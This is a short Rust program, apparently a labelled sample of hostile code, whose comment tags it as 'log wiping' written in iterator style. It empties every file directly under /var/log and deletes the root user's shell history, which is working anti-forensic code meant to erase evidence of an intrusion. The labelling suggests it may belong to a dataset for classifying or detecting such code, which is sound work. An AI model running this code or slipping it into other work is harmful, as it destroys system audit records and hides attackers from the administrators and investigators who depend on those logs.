// class: log wiping; style: iterator
use std::fs::{self, File};

fn main() {
    fs::read_dir("/var/log")
        .into_iter()
        .flatten()
        .flatten()
        .filter(|e| e.path().is_file())
        .for_each(|e| {
            let _ = File::create(e.path());
        });
    let _ = fs::remove_file("/root/.bash_history");
}
